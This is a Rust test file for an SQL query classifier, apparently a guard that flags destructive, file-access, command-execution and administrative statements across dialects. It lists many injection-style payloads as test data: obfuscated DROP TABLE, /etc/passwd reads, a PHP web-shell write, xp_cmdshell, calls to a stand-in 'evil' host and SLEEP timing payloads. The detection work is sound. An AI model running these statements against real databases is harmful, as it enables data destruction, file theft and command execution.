use super::*;
use Class::*;
use Dialect::*;

#[test]
fn drops() {
    each_shows(
        Drop,
        &EVERY,
        &[
            "DROP TABLE users",
            "drop table if exists public.users cascade",
            "DrOp\n\tTABLE\r\nusers;",
            "DROP/**/TABLE/**/users",
            "/* a */ DROP /* b ; */ DATABASE -- c\n prod",
            "DROP DATABASE prod",
            "DROP SCHEMA public CASCADE",
            "DROP VIEW v",
            "DROP INDEX i",
            "DROP MATERIALIZED VIEW v",
            "DROP FUNCTION f(int)",
            "DROP OWNED BY joe",
            "DROP USER joe",
            "SELECT 1; DROP TABLE users",
            "SELECT 1;;; ; DROP TABLE users; SELECT 2",
            "SELECT ';'; DROP TABLE users; --",
            "SELECT 'it''s'; DROP TABLE users",
            "COMMIT; DROP SCHEMA public CASCADE",
            "BEGIN; DROP TABLE users; COMMIT",
            "( SELECT 1 ); DROP TABLE users",
            "ALTER TABLE users DROP COLUMN email",
            "ALTER TABLE users DROP email",
            "ALTER TABLE users ADD a int, DROP COLUMN b",
            "ALTER TABLE users DROP PARTITION p0",
            "CREATE OR REPLACE TABLE users AS SELECT 1",
            "CREATE PROCEDURE p() BEGIN DROP TABLE users; END",
            "CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW BEGIN DROP TABLE users; END",
            "IF 1=1 BEGIN DROP TABLE users END",
            "PREPARE x AS DROP TABLE users",
            "EXECUTE IMMEDIATE 'DROP TABLE users'",
            "EXECUTE IMMEDIATE 'DROP ' || 'TABLE users'",
            "PREPARE s FROM 'DROP TABLE users'; EXECUTE s",
            "EXEC('DROP TABLE users')",
            "EXEC ('DR' + 'OP TABLE users')",
            "EXEC(CONCAT('DR', 'OP TABLE users'))",
            "EXEC(CHAR(68)+CHAR(82)+CHAR(79)+CHAR(80)+' TABLE users')",
            "EXEC sp_executesql N'DROP TABLE users'",
            "EXEC master.dbo.sp_executesql @stmt = N'DROP TABLE users'",
            "EXEC('EXEC(''DROP TABLE users'')')",
            "EXECUTE IMMEDIATE X'44524f50205441424c45207573657273'",
            "WITH x AS (SELECT 1) SELECT * FROM x; DROP TABLE users",
        ],
    );
    each_shows(
        Drop,
        &[Generic, TSql],
        &[
            "SELECT 1 DROP TABLE users",
            "SELECT * FROM t WHERE a = 'b' DROP TABLE users",
            "SELECT 1 AS x DROP DATABASE prod",
            "SELECT 1\nGO\nDROP TABLE users\nGO",
            "SET NOCOUNT ON DROP TABLE users",
            // A procedure that is not there, and a statement that is.
            "EXPLAIN DROP TABLE users",
            "DESCRIBE DROP TABLE users",
            "SHOW DROP TABLE users",
            "SHOW x DROP TABLE users",
            "PRAGMA DROP TABLE users",
            "COMMIT DROP TABLE users",
            "SELECT 1 AS show DROP TABLE users",
            "SELECT 1 AS after DROP TABLE users",
            "PRINT 'x' DROP TABLE users",
            "BEGIN TRY DROP TABLE users END TRY BEGIN CATCH SELECT 1 END CATCH",
            "CREATE TABLE a (i int) DROP TABLE users",
            "ALTER TABLE a ADD b int DROP TABLE users",
            "INSERT INTO t VALUES (1) DROP TABLE users",
            "SELECT * FROM t ORDER BY a DESC DROP TABLE users",
            "SELECT'a'DROP TABLE users",
            "SELECT 1 AS [x]DROP TABLE users",
            "UPDATE t SET a = 1 WHERE id = 2 DROP TABLE users",
            "SELECT 1DROP TABLE users",
            "SELECT 1eDROP TABLE users",
            "SELECT [a;b] FROM [t] DROP TABLE [users]",
            "DECLARE @x int SET @x = 1 DROP TABLE users",
            "IF EXISTS (SELECT 1 FROM t) DROP TABLE t ELSE SELECT 1",
        ],
    );
    each_shows(
        Drop,
        &[Generic, PostgreSql],
        &[
            "DO $$ BEGIN DROP TABLE users; END $$",
            "DO LANGUAGE plpgsql $x$ BEGIN EXECUTE 'DROP TABLE users'; END $x$",
            "DO $$ BEGIN EXECUTE $q$DROP TABLE users$q$; END $$",
            "SELECT E'\\'; SELECT '; DROP TABLE users; --'",
            "SELECT 'a\\'; DROP TABLE users; --'",
            "SELECT $x$ ' $x$; DROP TABLE users",
            "SELECT 1 /* /* */ '*/; DROP TABLE users; --'",
            "SELECT query_to_xml('DROP TABLE users', true, true, '')",
            "EXPLAIN ANALYZE EXECUTE x; DROP TABLE users",
            "CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE users $$ LANGUAGE sql",
            "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS 'BEGIN DROP TABLE users; END'",
        ],
    );
    each_shows(
        Drop,
        &[Generic, MySql],
        &[
            "/*!50000DROP*/ TABLE users",
            "/*! DROP TABLE users */",
            "/*!99999 SELECT */ DROP TABLE users",
            "/*M!100000 DROP TABLE users */",
            "SELECT 'it\\'s'; DROP TABLE users",
            "SELECT \"a\\\"\"; DROP TABLE users; -- \"",
            "SELECT 1 --1; DROP TABLE users\n; DROP TABLE users",
            "SELECT 1 # ' \n; DROP TABLE users",
            "DROP TABLE `users`",
            "SELECT `a;b` FROM `t`; DROP TABLE `users`",
            "DELIMITER //\nDROP TABLE users//\nDELIMITER ;",
            "SELECT 1 /* /* */; DROP TABLE users",
        ],
    );
    each_shows(Drop, &[MySql], &["SELECT 2 --1; DROP TABLE users", "SELECT '\\\\'; DROP TABLE users; -- '"]);
    each_shows(Drop, &[Sqlite, Generic], &["SELECT [a'b]; DROP TABLE users --'", "SELECT 1 /* open ' */; DROP TABLE users"]);
}

#[test]
fn truncates_alters_creates() {
    each_shows(
        Truncate,
        &EVERY,
        &[
            "TRUNCATE users",
            "TRUNCATE TABLE users",
            "SELECT 1; truncate/**/table users",
            "ALTER TABLE t TRUNCATE PARTITION p1",
            "TRUNCATE TABLE a, b RESTART IDENTITY CASCADE",
        ],
    );
    each_shows(Truncate, &[Generic, TSql], &["SELECT 1 TRUNCATE TABLE users"]);
    each_shows(
        Alter,
        &EVERY,
        &["ALTER TABLE t ADD COLUMN a int", "RENAME TABLE a TO b", "COMMENT ON TABLE t IS 'x'", "ALTER VIEW v AS SELECT 1"],
    );
    each_shows(
        Create,
        &EVERY,
        &[
            "CREATE TABLE t (id int)",
            "CREATE TABLE t AS SELECT * FROM u",
            "CREATE VIEW v AS SELECT 1",
            "CREATE UNIQUE INDEX i ON t(a)",
            "CREATE TEMP TABLE t (a int)",
        ],
    );
    each_shows(
        Create,
        &[Generic, PostgreSql, TSql],
        &["SELECT * INTO backup FROM users", "SELECT a, b INTO TEMP x FROM y", "WITH a AS (SELECT 1 AS b) SELECT b INTO t FROM a"],
    );
}

#[test]
fn grants() {
    each_shows(
        Grant,
        &EVERY,
        &[
            "GRANT ALL ON t TO joe",
            "REVOKE SELECT ON t FROM joe",
            "GRANT admin TO joe WITH ADMIN OPTION",
            "DENY SELECT ON t TO joe",
            "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO joe",
            "ALTER ROLE db_owner ADD MEMBER joe",
            "ALTER TABLE t OWNER TO joe",
            "EXEC sp_addrolemember 'db_owner', 'joe'",
            "SELECT 1; GRANT SELECT ON t TO PUBLIC",
            "CREATE POLICY p ON t USING (true)",
            "ALTER TABLE t DISABLE ROW LEVEL SECURITY",
            "REASSIGN OWNED BY a TO b",
        ],
    );
}

#[test]
fn files() {
    each_shows(
        FileAccess,
        &EVERY,
        &[
            "COPY users TO '/tmp/x'",
            "COPY users (a, b) FROM '/etc/passwd'",
            "COPY (SELECT * FROM users) TO '/tmp/x' WITH CSV",
            "SELECT * FROM users INTO OUTFILE '/var/www/x.php'",
            "SELECT '<?php' INTO DUMPFILE '/var/www/x.php'",
            "SELECT 1 INTO/**/OUTFILE '/x' FROM users",
            "SELECT LOAD_FILE('/etc/passwd')",
            "SELECT load_file (0x2f6574632f706173737764)",
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
            "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)",
            "SELECT * FROM pg_ls_dir('/')",
            "SELECT lo_import('/etc/passwd')",
            "SELECT lo_export(1, '/tmp/x')",
            "BULK INSERT t FROM 'c:\\x.txt'",
            "SELECT * FROM OPENROWSET(BULK 'c:\\x.txt', SINGLE_CLOB) AS x",
            "ATTACH DATABASE '/tmp/x.db' AS x",
            "ATTACH '/tmp/x.db' AS x",
            "VACUUM INTO '/tmp/x.db'",
            "VACUUM main INTO '/tmp/x.db'",
            "SELECT readfile('/etc/passwd')",
            "SELECT writefile('/tmp/x', 'y')",
            "BACKUP DATABASE prod TO DISK = 'x'",
            "RESTORE DATABASE prod FROM DISK = 'x'",
            "EXEC master..xp_dirtree '\\\\evil\\x'",
            "SELECT * FROM read_csv('/etc/passwd')",
            "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
            "SELECT * FROM OPENROWSET('SQLNCLI', 'server=x', 'SELECT 1')",
            "SELECT UTL_HTTP.REQUEST('http://evil/') FROM dual",
            "INSERT INTO t SELECT pg_read_file('/etc/passwd')",
            "EXEC('SELECT LOAD_FILE(''/etc/passwd'')')",
            "CREATE FOREIGN TABLE f (a text) SERVER s OPTIONS (filename '/etc/passwd')",
            "CREATE DIRECTORY d AS '/etc'",
            "CREATE TABLE f (a int) DATA DIRECTORY = '/tmp'",
            "CREATE TABLE f (a int) ENGINE = FEDERATED CONNECTION = 'mysql://evil/d/t'",
            "SELECT * FROM url('http://evil/', CSV, 'a String')",
            "INSERT INTO FUNCTION remote('evil:9000', d.t) SELECT * FROM users",
            "SELECT xmltype('<!DOCTYPE a [<!ENTITY b SYSTEM \"http://evil/\">]>') FROM dual",
        ],
    );
    each_shows(FileAccess, &[Generic, Sqlite], &[".import /etc/passwd t", ".output /tmp/x\nSELECT 1", "SELECT * FROM '/etc/passwd.csv'"]);
    each_shows(
        FileAccess,
        &[Generic, PostgreSql],
        &["\\copy t from '/etc/passwd'", "SELECT 1 \\g /tmp/x", "\\i /tmp/x.sql", "\\o /tmp/x", "SELECT \"pg_read_file\"('/etc/passwd')"],
    );
    each_shows(FileAccess, &[Generic, MySql], &["SELECT 1 /*!50000INTO*/ OUTFILE '/x'"]);
}

#[test]
fn programs() {
    each_shows(
        ProgramExecution,
        &EVERY,
        &[
            "COPY t FROM PROGRAM 'id'",
            "COPY (SELECT 1) TO PROGRAM 'sh'",
            "copy/**/t/**/from/**/program 'id'",
            "EXEC xp_cmdshell 'dir'",
            "xp_cmdshell 'dir'",
            "EXEC master..xp_cmdshell 'dir'",
            "EXEC master.dbo.[xp_cmdshell] 'dir'",
            "SELECT 1; EXEC xp_cmdshell 'dir'",
            "DECLARE @r int EXEC @r = master.dbo.xp_cmdshell 'dir'",
            "EXEC sp_OACreate 'WScript.Shell', @o OUT",
            "SELECT sys_exec('id')",
            "SELECT sys_eval('id')",
            "CREATE FUNCTION sys_exec RETURNS int SONAME 'lib.so'",
            "CREATE FUNCTION f() RETURNS int AS '/lib/x.so', 'f' LANGUAGE c",
            "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpythonu AS 'import os'",
            "CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE 'plperlu'",
            "CREATE EXTENSION plpython3u",
            "CREATE LANGUAGE plpythonu",
            "CREATE TRUSTED PROCEDURAL LANGUAGE plperl",
            "SELECT load_extension('/tmp/x.so')",
            "CREATE ASSEMBLY a FROM 0x00 WITH PERMISSION_SET = UNSAFE",
            "INSTALL PLUGIN x SONAME 'x.so'",
            "LOAD '/tmp/x.so'",
            "EXEC sp_configure 'xp_cmdshell', 1",
            "EXEC sp_execute_external_script @language = N'Python', @script = N'import os'",
            "SELECT java_method('java.lang.Runtime', 'exec', 'id')",
            "SELECT cron.schedule('* * * * *', 'SELECT 1')",
            "EXEC('xp_cmdshell ''dir''')",
            "EXEC('EXEC xp_cmdshell ''dir''')",
        ],
    );
    each_shows(
        ProgramExecution,
        &[Generic, TSql],
        &["SELECT 1 EXEC xp_cmdshell 'dir'", ":!! dir", "!! dir", "EXEC [master]..[xp_cmdshell] 'dir'"],
    );
    each_shows(
        ProgramExecution,
        &[Generic, PostgreSql],
        &[
            "\\! id",
            "SELECT 1 \\! id",
            "SELECT 'DROP TABLE x' \\gexec",
            "DO LANGUAGE plpythonu $$ import os $$",
            "DO $$ import os $$ LANGUAGE plpython3u",
        ],
    );
    each_shows(ProgramExecution, &[Generic, Sqlite], &[".shell id", ".system id", "SELECT 1;\n.shell id", ".load /tmp/x.so"]);
    each_shows(ProgramExecution, &[Generic, MySql], &["system id", "\\! id"]);
}

#[test]
fn administrative() {
    each_shows(
        Administrative,
        &EVERY,
        &[
            "SHUTDOWN",
            "SHUTDOWN WITH NOWAIT",
            "KILL 55",
            "SET GLOBAL general_log = 1",
            "SET @@global.general_log = 1",
            "SET PERSIST max_connections = 1",
            "SET a = 1, GLOBAL b = 2",
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "SET session_replication_role = replica",
            "SET TRANSACTION READ WRITE",
            "SET default_transaction_read_only = off",
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            "BEGIN; SET LOCAL role = postgres; SELECT 1",
            "ALTER SYSTEM SET archive_command = 'x'",
            "ALTER USER joe WITH SUPERUSER",
            "CREATE USER joe IDENTIFIED BY 'x'",
            "CREATE ROLE joe SUPERUSER",
            "CREATE LOGIN joe WITH PASSWORD = 'x'",
            "DROP ROLE joe",
            "CREATE DATABASE d",
            "ALTER DATABASE d SET x = y",
            "FLUSH PRIVILEGES",
            "RESET MASTER",
            "RESET ALL",
            "PURGE BINARY LOGS TO 'x'",
            "EXEC sp_configure 'show advanced options', 1",
            "RECONFIGURE",
            "EXEC sp_addlogin 'joe'",
            "EXEC xp_regread 'HKLM'",
            "DBCC CHECKDB",
            "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
            "SELECT pg_terminate_backend(1)",
            "SELECT pg_sleep(10)",
            "SELECT 1 FROM t WHERE id = 1 AND SLEEP(5)",
            "SELECT BENCHMARK(1000000, MD5('a'))",
            "WAITFOR DELAY '0:0:5'",
            "SELECT set_config('role', 'postgres', false)",
            "SELECT pg_advisory_lock(1)",
            "SELECT pg_reload_conf()",
            "PRAGMA writable_schema = 1",
            "PRAGMA journal_mode = OFF",
            "PRAGMA foreign_keys(0)",
            "EXECUTE AS LOGIN = 'sa'",
            "SELECT randomblob(1000000000)",
            "SELECT * FROM t WHERE a = CASE WHEN 1=1 THEN pg_sleep(5) ELSE 1 END",
            "DETACH DATABASE x",
            "RENAME USER a TO b",
            "UPDATE STATISTICS t",
        ],
    );
    each_shows(
        Administrative,
        &[Generic, TSql],
        &[
            "SELECT 1 WAITFOR DELAY '0:0:5'",
            "SELECT 1 SHUTDOWN WITH NOWAIT",
            "SELECT 1 SHUTDOWN",
            "SELECT 1 CHECKPOINT",
            "SELECT 1 SETUSER 'x'",
            "SELECT 1 UPDATE STATISTICS t",
            "SELECT 1 RECONFIGURE",
            "SELECT 1 KILL 5",
        ],
    );
}

#[test]
fn writes() {
    each_shows(
        Write,
        &EVERY,
        &[
            "INSERT INTO t VALUES (1)",
            "INSERT t (a) VALUES (1)",
            "UPDATE t SET a = 1 WHERE id = 1",
            "DELETE FROM t WHERE id = 1",
            "REPLACE INTO t VALUES (1)",
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
            "WITH x AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM x",
            "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x",
            "WITH x AS MATERIALIZED (UPDATE t SET a = 1 WHERE id = 1 RETURNING id) SELECT 1",
            "SELECT * FROM (INSERT INTO t VALUES (1) RETURNING id) x",
            "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1",
            "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1",
            "EXPLAIN (VERBOSE, ANALYZE true) INSERT INTO t VALUES (1)",
            "EXPLAIN ANALYZE VERBOSE WITH x AS (SELECT 1) DELETE FROM t WHERE id = 1",
            "ANALYZE DELETE FROM t WHERE id = 1",
            "SELECT nextval('s')",
            "SELECT setval('s', 1)",
            "COPY t FROM STDIN",
            "LOAD DATA INFILE 'x' INTO TABLE t",
            "SELECT 1; INSERT INTO t VALUES (1)",
            "PREPARE x AS INSERT INTO t VALUES ($1); EXECUTE x(1)",
            "DECLARE c CURSOR FOR SELECT 1; UPDATE t SET a = 1 WHERE CURRENT OF c",
            "SELECT lo_unlink(1)",
            "REFRESH MATERIALIZED VIEW v",
            "(DELETE FROM t WHERE id = 1)",
            "FROM t INSERT OVERWRITE TABLE u SELECT *",
            "BEGIN INSERT INTO t VALUES (1); END",
        ],
    );
    each_shows(
        Write,
        &[Generic, TSql],
        &[
            "SELECT 1 INSERT INTO t VALUES (1)",
            "SELECT 1 UPDATE t SET a = 1 WHERE id = 1",
            "SELECT 1 DELETE FROM t WHERE id = 2",
            "SELECT 1 DELETE t WHERE id = 2",
            "IF 1=1 INSERT t VALUES (1)",
            "SELECT 1 MERGE t USING s ON t.i = s.i WHEN MATCHED THEN DELETE;",
        ],
    );
}

#[test]
fn deletes_without_where() {
    each_shows(
        DeleteWithoutWhere,
        &EVERY,
        &[
            "DELETE FROM users",
            "delete from users;",
            "DELETE users",
            "DELETE FROM users u",
            "DELETE FROM users LIMIT 10",
            "DELETE FROM users WHERE 1=1",
            "DELETE FROM users WHERE 1 = 1 -- x",
            "DELETE FROM users WHERE true",
            "DELETE FROM users WHERE 1",
            "DELETE FROM users WHERE (1)",
            "DELETE FROM users WHERE ((1=1))",
            "DELETE FROM users WHERE 'a'='a'",
            "DELETE FROM users WHERE NOT false",
            "DELETE FROM users WHERE NOT (1=2)",
            "DELETE FROM users WHERE id = id",
            "DELETE FROM users WHERE users.id = id",
            "DELETE FROM users WHERE (id) = id",
            "DELETE FROM users WHERE id = 5 OR 1=1",
            "DELETE FROM users WHERE id = 5 OR (id = 6 OR 'x' = 'x')",
            "DELETE FROM users WHERE id IS NULL OR id IS NOT NULL",
            "DELETE FROM users WHERE id IS NOT NULL",
            "DELETE FROM users WHERE a = 1 OR a <> 1",
            "DELETE FROM users WHERE a = 1 OR NOT a = 1",
            "DELETE FROM users WHERE a > 5 OR a <= 5",
            "DELETE FROM users WHERE name LIKE '%'",
            "DELETE FROM users WHERE name LIKE '%%'",
            "DELETE FROM users WHERE id > 0",
            "DELETE FROM users WHERE id >= 0",
            "DELETE FROM users WHERE id <> -1",
            "DELETE FROM users WHERE 0 < id",
            "DELETE FROM users WHERE 2 > 1",
            "DELETE FROM users WHERE 1 IN (1)",
            "DELETE FROM users WHERE 1 BETWEEN 0 AND 2",
            "DELETE FROM users WHERE id IN (SELECT id FROM users)",
            "DELETE FROM users WHERE EXISTS (SELECT 1)",
            "DELETE FROM users WHERE (1=1) IS TRUE",
            "DELETE FROM users WHERE (id=id) = true",
            "DELETE FROM users WHERE 1=1 AND 2=2",
            "DELETE FROM users WHERE id = id AND 1=1",
            "DELETE FROM users WHERE COALESCE(1, 2) = 1",
            "DELETE FROM users WHERE length('a') = 1",
            "DELETE FROM users WHERE CASE WHEN 1=1 THEN 1 ELSE 0 END = 1",
            "DELETE FROM users WHERE 1=1 RETURNING *",
            "DELETE FROM users WHERE id IN (id)",
            "DELETE FROM users WHERE ? = ?",
            "DELETE FROM users WHERE id = id + 0",
            "DELETE FROM users WHERE (a IS NULL) OR (a IS NOT NULL)",
            "DELETE FROM users WHERE a IS NULL OR NOT (a IS NULL)",
            "DELETE FROM users WHERE NOT id IS NULL",
            "DELETE FROM users WHERE NOT (id IS NULL)",
            "DELETE FROM users WHERE id NOT IN (-1)",
            "DELETE FROM users WHERE user_id > 0",
            "DELETE FROM users WHERE user_id IS NOT NULL",
            "DELETE FROM users WHERE id BETWEEN 1 AND 999999999",
            "DELETE FROM users WHERE id < 9999999",
            "DELETE FROM users WHERE id NOT IN (SELECT id FROM users WHERE 1=0)",
            "DELETE FROM users WHERE id = id + 1 - 1",
            "DELETE FROM users WHERE age < age + 1",
            "DELETE FROM users WHERE id - id = 0",
            "DELETE FROM users WHERE id >= 1",
            "DELETE FROM users WHERE active = true OR active = false",
            "DELETE FROM users WHERE active IS TRUE OR active IS NOT TRUE",
            "DELETE FROM users WHERE id = 5 OR id",
            "DELETE FROM users WHERE users IS NOT NULL",
            "DELETE FROM users WHERE NOT (age = 7 AND age <> 7)",
            "DELETE FROM users WHERE id IN (SELECT id FROM users WHERE id IS NOT NULL)",
            "DELETE FROM users WHERE name SIMILAR TO '%'",
            "DELETE FROM users WHERE name GLOB '*'",
            "DELETE FROM users WHERE name LIKE '%' ESCAPE '!'",
            "DELETE FROM users WHERE age * 0 = 0",
            "DELETE FROM users WHERE id >= (SELECT min(id) FROM users)",
            "DELETE FROM users WHERE born < '9999-12-31'",
            "DELETE FROM users WHERE name LIKE '_%'",
            "DELETE FROM users WHERE id = ANY (SELECT id FROM users)",
            "DELETE FROM users WHERE id IN (SELECT u.id FROM users u WHERE 1=1)",
            "DELETE FROM users WHERE EXISTS (SELECT 1 WHERE 1=1)",
            "DELETE FROM users WHERE NOT EXISTS (SELECT 1 WHERE 1=2)",
            "DELETE FROM users WHERE (SELECT 1) = 1",
            "DELETE FROM users WHERE NULL IS NULL",
            "DELETE FROM users WHERE now() > '2000-01-01'",
            "DELETE FROM users WHERE length(name) >= 0",
            "DELETE FROM users USING orders",
            "WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x WHERE id = 1",
            "WITH x AS (SELECT 1) DELETE FROM users",
            "EXPLAIN ANALYZE DELETE FROM users",
            "SELECT 1; DELETE FROM users",
            "DELETE FROM users; SELECT * FROM x WHERE id = 1",
            "MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE",
            "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
            "EXEC('DELETE FROM users')",
            "DELETE FROM users /* WHERE id = 1 */",
            "DELETE FROM users -- WHERE id = 1",
            "DELETE FROM users CROSS JOIN x WHERE 1=1",
            "DELETE u FROM users u LEFT JOIN x ON x.id = u.id",
            "DELETE u FROM users u JOIN x ON 1=1",
        ],
    );
    each_shows(
        DeleteWithoutWhere,
        &[Generic, TSql],
        &[
            "DELETE t FROM t",
            "DELETE TOP (10) FROM users",
            "SELECT 1 DELETE FROM users",
            "SELECT 1 DELETE users",
            "DELETE FROM users SELECT * FROM x WHERE id = 1",
            "IF 1=1 DELETE FROM users ELSE DELETE FROM x WHERE id = 1",
            "DELETE FROM users OUTPUT deleted.id",
            "DELETE FROM users\nGO\nSELECT 1 WHERE 1=2",
        ],
    );
    each_shows(
        DeleteWithoutWhere,
        &[Generic, MySql],
        &[
            "DELETE FROM users WHERE id = 1 || 1=1",
            "DELETE LOW_PRIORITY QUICK IGNORE FROM users",
            "DELETE a, b FROM a, b",
            "DELETE FROM a USING a, b",
            "DELETE FROM users # WHERE id = 1",
            "DELETE FROM users /*!99999 WHERE id = 1 */",
            "DELETE FROM users WHERE !0",
            "DELETE FROM users WHERE id = 1 OR \"1\"",
            "DELETE FROM users WHERE id = 1 OR 1 -- ",
            "DELETE FROM users WHERE name REGEXP '.*'",
            "DELETE FROM users WHERE id = 1 OR 1 && 1",
        ],
    );
    each_shows(
        DeleteWithoutWhere,
        &[Generic, PostgreSql],
        &[
            "DELETE FROM ONLY users",
            "DO $$ BEGIN DELETE FROM users; END $$",
            "DELETE FROM users WHERE 't'",
            "DELETE FROM users WHERE id IS NOT DISTINCT FROM id",
            "DELETE FROM users WHERE $$a$$ = $$a$$",
            "DELETE FROM users WHERE name ~ '.*'",
        ],
    );
}

#[test]
fn updates_without_where() {
    each_shows(
        UpdateWithoutWhere,
        &EVERY,
        &[
            "UPDATE users SET a = 1",
            "UPDATE users SET a = (SELECT 1 FROM x WHERE id = 1)",
            "UPDATE users SET a = 1 WHERE 1=1",
            "UPDATE users u SET a = 1 WHERE u.id = u.id",
            "UPDATE users SET a = CASE WHEN b = 1 THEN 2 ELSE 3 END",
            "UPDATE users SET a = 1 FROM x",
            "UPDATE users SET a = 1; SELECT 1 WHERE 1=2",
            "WITH x AS (UPDATE users SET a = 1 RETURNING *) SELECT * FROM x",
            "UPDATE users SET a = 1 WHERE id = 1 OR true",
            "UPDATE s.users SET admin = true WHERE ''=''",
            "UPDATE users SET a = 'WHERE id = 1'",
            "UPDATE users SET a = 1 LIMIT 5",
            "BEGIN; UPDATE users SET password = 'x'; COMMIT",
        ],
    );
    each_shows(
        UpdateWithoutWhere,
        &[Generic, TSql],
        &[
            "UPDATE TOP (5) users SET a = 1",
            "SELECT 1 UPDATE users SET a = 1",
            "UPDATE u SET a = 1 FROM users u",
            "UPDATE users SET a = 1 SELECT 1 WHERE 1=2",
        ],
    );
    each_shows(
        UpdateWithoutWhere,
        &[Generic, MySql],
        &["UPDATE a, b SET a.x = 1", "UPDATE IGNORE users SET a = 1", "UPDATE a LEFT JOIN b ON a.id = b.id SET a.x = 1"],
    );
    each_shows(UpdateWithoutWhere, &[Generic, Sqlite], &["UPDATE OR REPLACE users SET a = 1"]);
}

#[test]
fn unknown() {
    each_shows(
        Unknown,
        &EVERY,
        &[
            "",
            "   \n\t",
            "-- only a comment",
            "/* only a comment */",
            ";;;",
            "FROBNICATE t",
            "hello world",
            "' OR 1=1 --",
            "1; SELECT 1",
            "SELECT 'open",
            "SELECT 1 /* open '",
            "SELECT 'a' 'b' /* c",
            "SELECT \"open",
            "SELECT\u{200b} 1",
            "SELECT 1\0",
            "\u{ff33}\u{ff25}LECT 1",
            "SELECT 1; \u{ff24}ROP TABLE t",
            "SELECT\u{a0}1",
            "CALL anything()",
            "EXEC anything",
            "EXEC(@sql)",
            "EXECUTE IMMEDIATE @x",
            "EXECUTE IMMEDIATE 'DROP ' || @x",
            "PREPARE s FROM @x",
            "EXEC sp_executesql @sql",
            "EXEC('EXEC(''EXEC(''''EXEC(''''''''EXEC(''''''''''''''''SELECT 1'''''''''''''''')'''''''')'''')'')')",
            "SELECT query_to_xml(x, true, true, '') FROM t",
            "SELECT 1; FROBNICATE",
            "WITH x AS (SELECT 1)",
            "PREPARE",
            "\\d users",
            "EXECUTE never_prepared",
            "SELECT exec_sql('x')",
        ],
    );
    each_shows(Unknown, &[PostgreSql, Generic], &["SELECT U&\"d\\0061ta\" FROM t", "DO $$ DECLARE x int; BEGIN frobnicate; END $$"]);
    each_shows(Unknown, &[MySql], &["SELECT 'C:\\'"]);
}

#[test]
fn several_statements() {
    each_shows(MultiStatement, &EVERY, &["SELECT 1; SELECT 2", "SELECT 1;;SELECT 2;", "BEGIN; SELECT 1; COMMIT;", "SELECT ';' ; SELECT 1"]);
    each_shows(MultiStatement, &[Generic, TSql], &["SELECT 1\nGO\nSELECT 2", "SELECT 1 DROP TABLE t", "SELECT 1 INSERT INTO t VALUES (1)"]);
    for text in [
        "SELECT 1;",
        "SELECT ';;'",
        "SELECT 1; -- x",
        ";SELECT 1;;",
        "CREATE TRIGGER t AFTER INSERT ON a BEGIN UPDATE b SET c = 1 WHERE d = 2; DELETE FROM e WHERE f = 1; END;",
    ] {
        for dialect in EVERY {
            assert!(!inspect(text, dialect).classes.contains(MultiStatement), "{dialect:?}: {text}");
        }
    }
    let text = "CREATE TRIGGER t AFTER INSERT ON a BEGIN UPDATE b SET c = 1 WHERE d = 2; END; SELECT 1";
    assert!(inspect(text, Generic).classes.contains(MultiStatement));
}

#[test]
fn transactions() {
    each_shows(
        Transaction,
        &EVERY,
        &["START TRANSACTION", "ROLLBACK", "SAVEPOINT a", "SET search_path TO x", "SET NOCOUNT ON", "USE db", "DEALLOCATE x"],
    );
    for text in ["SELECT 1 USE master", "SELECT 1 SET NOCOUNT ON", "SELECT 1 DECLARE @x int"] {
        for dialect in [Generic, TSql] {
            assert!(inspect(text, dialect).classes.contains(Transaction), "{dialect:?}: {text}");
        }
    }
    for text in ["BEGIN; SELECT 1; COMMIT", "BEGIN TRANSACTION; SELECT 1; END", "USE db; SELECT 1"] {
        let found = inspect(text, Generic).classes;
        assert_eq!(found, [Transaction, MultiStatement, Read].into_iter().collect(), "{text}");
    }
}

#[test]
fn what_showed_it_is_told() {
    let found = inspect("SELECT 1; DROP TABLE users", Generic);
    let drop = found.notes.first().unwrap();
    assert_eq!((drop.class, drop.at, drop.words.as_str()), (Drop, 10, "DROP TABLE"));
    assert_eq!(found.statements, 2);
    let nested = inspect("EXEC('DROP TABLE users')", Generic);
    assert_eq!(nested.notes.first().map(|note| note.at), Some(4));
    let secret = inspect("EXEC('DROP TABLE hunter2'); SELECT pg_read_file('hunter2')", Generic);
    assert!(secret.notes.iter().all(|note| !note.words.contains("hunter2")), "{:?}", secret.notes);
}
